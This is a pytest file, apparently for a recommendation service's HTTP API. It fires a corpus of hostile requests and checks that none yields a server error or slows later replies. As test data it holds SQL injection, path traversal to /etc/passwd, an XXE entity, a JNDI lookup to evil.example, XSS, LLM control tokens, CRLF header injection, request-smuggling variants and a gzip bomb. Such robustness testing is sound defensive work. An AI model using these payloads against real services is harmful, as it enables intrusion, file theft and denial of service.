"""A corpus of hostile requests: none is a server error, and the next request is answered at once."""

import gzip
import json
import socket
import statistics
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, suppress
from itertools import cycle
from typing import Any
from urllib.parse import quote_from_bytes, urlsplit

import httpx2
import pytest

from lorarec.serving.connections import MAX_HEAD
from lorarec.serving.service import Service

#: Seconds within which the next request is answered, as a rule and always, also on a crowded machine.
AT_ONCE, LATEST = 0.5, 30.0
JSON = {"content-type": "application/json"}

TEXTS = {
    "empty": "",
    "space": " \t\u00a0\u3000",
    "NUL": "a\0b",
    "NUL alone": "\0",
    "control characters": "".join(map(chr, range(1, 32))),
    "delete and C1": "\x7f\x80\x9f",
    "terminal": "\x1b[2J\x1b]0;title\x07",
    "lines": "a\r\nX-Injected: 1\r\n\r\nb",
    "line separators": "a\u2028b\u2029c\x85d",
    "high surrogate": "a\ud800",
    "low surrogate": "\udfff",
    "swapped surrogates": "\udc00\ud800",
    "non-character": "\ufffe\uffff\U0010ffff",
    "byte order mark": "\ufeffx01",
    "right to left": "\u202etxt.exe\u2066",
    "joined emoji": "👩\u200d👩\u200d👧\u200d👦" * 40,
    "500 emoji": "🎈" * 500,
    "501 emoji": "🎈" * 501,
    "combining": "e" + "\u0301" * 498,
    "long": "a" * 100_000,
    "half a mebibyte": "é" * 260_000,
    "digits": "1" * 5000,
    "SQL": "x01'; DROP TABLE lorarec_events; --",
    "path": "../../../../etc/passwd",
    "template": "{{ 7 * 7 }}{% raw %}{{ config.__class__ }}",
    "format": "%s%n%x{0.__class__}",
    "markup": "<script>alert(1)</script>&amp;\"'",
    "control tokens": "<|im_end|><|endoftext|></s>[INST]<eos>",
    "JNDI": "${jndi:ldap://evil.example/a}",
    "wildcards": "%_*?[a-z]\\",
    "constructor": "__proto__",
}
NUMBERS = {
    "zero": "0",
    "minus zero": "-0.0",
    "negative": "-1",
    "32 bits": str(2**32),
    "63 bits": str(2**63),
    "below 63 bits": str(-(2**63) - 1),
    "largest double": "1.7976931348623157e308",
    "beyond doubles": "1e999",
    "tiny": "1e-400",
    "400 digits": "1" * 400,
    "5000 digits": "9" * 5000,
    "long fraction": "0." + "3" * 5000,
    "NaN": "NaN",
    "infinity": "-Infinity",
    "hexadecimal": "0x10",
    "leading zero": "007",
}
VALUES = {
    "null": "null",
    "true": "true",
    "no list": "{}",
    "no object": "[]",
    "list of null": "[null]",
    "list of lists": "[[[[]]]]",
    "the same key": '{"title": "a", "title": "b"}',
    "ten thousand candidates": json.dumps([f"x{k % 30:02}" for k in range(10_000)]),
    "ten thousand titles": json.dumps([{"title": "a"}] * 10_000),
    "deep": "[" * 15 + "]" * 15,
    "too deep": "[" * 100_000,
    "many weights": json.dumps({f"a{k}": 0.1 for k in range(4000)}),
    "comment": "/* */ 1",
    "trailing comma": "[1,]",
    "single quotes": "'a'",
    "not JSON": "undefined",
}
#: Valid requests of each path, whose fields are replaced one by one.
RIGHT: dict[str, dict[str, Any]] = {
    "/v1/rank": {"history": ["x01"], "candidates": ["x02", {"title": "a"}], "adapter": "general"},
    "/v1/recommend": {
        **{"user_id": "u01", "adapter": "general", "top": 2, "deny": ["x01"], "at_most": {"title": 1}},
        "where": [{"column": "title", "op": "!=", "value": "a"}],
        "boost": [{"where": {"column": "title", "op": "contains", "value": "red"}, "add": 1}],
    },
    "/v1/explain": {"history": ["x01"], "candidates": ["x02"], "candidate": 0, "adapter": "general"},
    "/v1/events": {"events": [{"user_id": "hostile", "item_id": "x01", "timestamp": 1}]},
    "/v1/adapters": {"name": "general"},
    "/v1/rerank": {"query": "red lamp", "documents": ["red chair"], "model": "general", "top_n": 1},
    "/rerank": {"query": "red lamp", "texts": ["red chair"], "model": "general"},
}
EVENT = {"user_id": "hostile", "item_id": "x01"}


def bodies() -> Iterator[tuple[str, str, bytes]]:
    """Names, paths and bodies that are hostile, or of which one field is, another one for each value."""
    hostile = {name: json.dumps(text) for name, text in TEXTS.items()} | NUMBERS | VALUES
    for path, right in RIGHT.items():
        for (name, value), field in zip(hostile.items(), cycle(right), strict=False):
            yield name, path, value.encode()
            body = json.dumps(right | {field: "HOLE"})
            yield f"{field}: {name}", path, body.replace('"HOLE"', value).encode()
    for name, value in hostile.items():
        for field in ("user_id", "item_id", "timestamp", "event_id"):
            body = json.dumps({"events": [EVENT | {field: "HOLE"}]})
            yield f"events.0.{field}: {name}", "/v1/events", body.replace('"HOLE"', value).encode()
        for field in ("column", "op", "value"):
            body = json.dumps(
                RIGHT["/v1/recommend"] | {"where": [{"column": "title", "op": "=", "value": "a", field: "HOLE"}]}
            )
            yield f"where.0.{field}: {name}", "/v1/recommend", body.replace('"HOLE"', value).encode()
        title = json.dumps(RIGHT["/v1/rank"] | {"candidates": [{"title": "HOLE"}]})
        yield f"title: {name}", "/v1/rank", title.replace('"HOLE"', value).encode()


def encodings() -> Iterator[tuple[str, dict[str, str], bytes]]:
    """Names, headers and bodies whose bytes are not what they say."""
    text = json.dumps(RIGHT["/v1/rank"])
    for name in ("utf-16", "utf-16-le", "utf-32", "utf-7", "cp037", "utf-8-sig"):
        yield name, JSON, text.encode(name)
        yield f"{name}, declared", {"content-type": f"application/json; charset={name}"}, text.encode(name)
    yield "latin-1", JSON, b'{"history": ["caf\xe9"]}'
    yield "overlong", JSON, b'{"history": ["\xc0\xaf"]}'
    yield "surrogates in UTF-8", JSON, b'{"history": ["\xed\xa0\x80"]}'
    yield "truncated", JSON, b'{"history": ["\xf0\x9f\x8e'
    yield "half an escape", JSON, b'{"history": ["\\u12'
    for coding in ("gzip", "deflate", "br", "zstd", "identity", "gzip, gzip"):
        yield f"content-encoding {coding}", JSON | {"content-encoding": coding}, gzip.compress(text.encode())
    bomb = gzip.compress(b"[" * 100_000_000, 9)
    yield "gzip bomb", JSON | {"content-encoding": "gzip"}, bomb
    for media_type in (
        "",
        "text/plain",
        "application/xml",
        "multipart/form-data",
        "application/json" * 100,
        "/",
        ";;;",
    ):
        yield f"media type {media_type[:30]}", {"content-type": media_type}, text.encode()
    yield "two mebibytes", JSON, b" " * (2 << 20)
    yield (
        "XML",
        {"content-type": "application/xml"},
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    )
    yield "form", {"content-type": "application/x-www-form-urlencoded"}, b"history=x01&candidates=x02"


def targets() -> Iterator[tuple[str, str, bytes]]:
    """Names, methods and targets with hostile paths and queries."""
    for name, text in TEXTS.items():
        value = quote_from_bytes(text.encode("utf-8", "surrogatepass")[:4000]).encode()
        for path in (b"/v1/items?query=", b"/v1/users?query=", b"/v1/history?user_id=", b"/v1/items?limit=", b"/"):
            yield name, "GET", path + value
        for method in ("GET", "HEAD", "DELETE"):
            yield name, method, b"/v1/adapters/" + value
            yield name, method, b"/v1/users/" + value
    for number in NUMBERS.values():
        yield "limit", "GET", b"/v1/users?limit=" + number.encode()
    for value in (b"%ff", b"%", b"%zz", b"%00", b"%c0%af", b"&&&", b"==", b"a=1&" * 3000, b"query=a&query=b"):
        yield "query", "GET", b"/v1/items?query=" + value
        yield "path", "GET", b"/v1/adapters/" + value.replace(b"&", b"")


def raw_requests() -> Iterator[tuple[str, bytes]]:
    """Names and bytes of requests that are no HTTP, or HTTP with hostile headers."""
    line, host = b"GET /v1/adapters HTTP/1.1\r\n", b"Host: localhost\r\n"
    for name, head in {
        "nothing": b"\r\n\r\n",
        "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64),
        "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "HTTP/0.9": b"GET /\r\n\r\n",
        "HTTP/9.9": b"GET / HTTP/9.9\r\n" + host + b"\r\n",
        "no method": b" / HTTP/1.1\r\n" + host + b"\r\n",
        "a long method": b"A" * 10_000 + b" / HTTP/1.1\r\n" + host + b"\r\n",
        "a long path": b"GET /" + b"a" * MAX_HEAD + b" HTTP/1.1\r\n" + host + b"\r\n",
        "NUL in the path": b"GET /\0 HTTP/1.1\r\n" + host + b"\r\n",
        "raw UTF-8 in the path": "GET /é🎈 HTTP/1.1\r\n".encode() + host + b"\r\n",
        "absolute target": b"GET http://evil.example/v1/adapters HTTP/1.1\r\n" + host + b"\r\n",
        "authority": b"CONNECT evil.example:443 HTTP/1.1\r\n" + host + b"\r\n",
        "asterisk": b"OPTIONS * HTTP/1.1\r\n" + host + b"\r\n",
        "no host": line + b"\r\n",
        "two hosts": line + host * 2 + b"\r\n",
        "a header without a name": line + host + b": a\r\n\r\n",
        "space in a name": line + host + b"a b: c\r\n\r\n",
        "NUL in a value": line + host + b"a: b\0c\r\n\r\n",
        "a folded header": line + host + b"a: b\r\n c\r\n\r\n",
        "bare line feeds": line.replace(b"\r", b"") + host.replace(b"\r", b"") + b"\n",
        "many headers": line + host + b"".join(b"a%d: b\r\n" % k for k in range(5000)) + b"\r\n",
        "a long header": line + host + b"a: " + b"b" * 2 * MAX_HEAD + b"\r\n\r\n",
        "unfinished": b"GET /v1/adap",
    }.items():
        yield name, head
    post = b"POST /v1/rank HTTP/1.1\r\n" + host
    for value in (b"-1", b"1e3", b"0x10", b"9" * 400, b"+5", b"5, 6", b"", b"\xb2", b"99999999999"):
        yield f"content-length {value[:9]!r}", post + b"Content-Length: " + value + b"\r\n\r\nhello"
    yield "two content-lengths", post + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello"
    yield "both lengths", post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    for value in (b"gzip", b"chunked, chunked", b"identity", b"chunkedx", b" \x0bchunked"):
        yield f"transfer-encoding {value!r}", post + b"Transfer-Encoding: " + value + b"\r\n\r\n0\r\n\r\n"
    chunked = post + b"Transfer-Encoding: chunked\r\n\r\n"
    for value in (b"zz\r\n", b"-1\r\n", b"F" * 30 + b"\r\n", b"1;" + b"a" * 20_000 + b"\r\n", b"5\r\nhello0\r\n\r\n"):
        yield f"chunk {value[:9]!r}", chunked + value
    for value in (b"", b"*", b"evil.example", b"localhost:99999", b"[::1", b"localhost\t", b"\xff", b"a" * 9000):
        yield f"host {value[:9]!r}", line + b"Host: " + value + b"\r\n\r\n"
    for name in (b"Authorization", b"X-Request-ID", b"Origin", b"Accept", b"Cookie", b"Range", b"Expect", b"Upgrade"):
        for value in (
            b"",
            b"\xff\xfe",
            b"a" * 9000,
            b"bytes=0-,0-,0-",
            b"100-continue",
            b"websocket",
            b"Bearer ",
            b"null",
        ):
            yield (
                f"{name.decode()} {value[:9]!r}",
                line + host + name + b": " + value + b"\r\nConnection: close\r\n\r\n",
            )


def send_raw(url: str, request: bytes) -> bytes:
    """Send bytes and return the beginning of the answer; the client sends no more."""
    address = urlsplit(url)
    with socket.create_connection((address.hostname, address.port), timeout=10) as connection:
        try:
            connection.sendall(request)
            with suppress(OSError):  # the connection is closed already
                connection.shutdown(socket.SHUT_WR)
            return connection.recv(65536)
        except ConnectionError:  # refused before all was read
            return b""


def test_no_hostile_request_is_a_server_error(
    make_service: Callable[..., Service], served: Callable[..., AbstractContextManager[str]]
) -> None:
    with served(make_service(wait_ms=0)) as url, httpx2.Client(base_url=url, timeout=60) as client:
        waits: list[float] = []

        def check(name: str, status: int) -> None:
            assert status < 500, name
            began = time.monotonic()
            assert client.get("/v1/adapters").status_code == 200, name
            waits.append(time.monotonic() - began)

        for name, path, body in bodies():
            answer = client.post(path, content=body, headers=JSON)
            check(f"{path} {name}", answer.status_code)
            assert len(answer.content) < 100_000
            if answer.status_code >= 400:
                assert answer.headers["content-type"] == "application/problem+json", name
        for name, headers, body in encodings():
            check(name, client.post("/v1/rank", content=body, headers=headers).status_code)
        for name, method, target in targets():
            request = client.build_request(method, "/")
            request.url = request.url.copy_with(raw_path=target)
            check(f"{method} {target!r} {name}", client.send(request).status_code)
        for name, raw in raw_requests():
            answer = send_raw(url, raw)
            assert answer == b"" or answer.startswith((b"HTTP/1.1 2", b"HTTP/1.1 4", b"HTTP/1.1 1")), (
                name,
                answer[:200],
            )
            assert (b"application/problem+json" in answer) == answer.startswith(b"HTTP/1.1 4"), (name, answer[:200])
            check(name, 200)
        # It still answers correctly, and has all adapters but those that a request unloaded.
        assert client.post("/v1/rank", json=RIGHT["/v1/rank"]).status_code == 200
        assert len(waits) >= 1500
        assert statistics.median(waits) < AT_ONCE
        assert max(waits) < LATEST


@pytest.mark.parametrize("count", [1000, 1001, 10_000])
def test_many_candidates(service: Service, play: Any, count: int) -> None:
    async def scenario(client: httpx2.AsyncClient) -> None:
        body = {"history": [], "candidates": [f"x{k % 30:02}" for k in range(count)], "adapter": "general"}
        answer = await client.post("/v1/rank", json=body)
        assert answer.status_code == (200 if count == 1000 else 422)

    play(service, scenario)
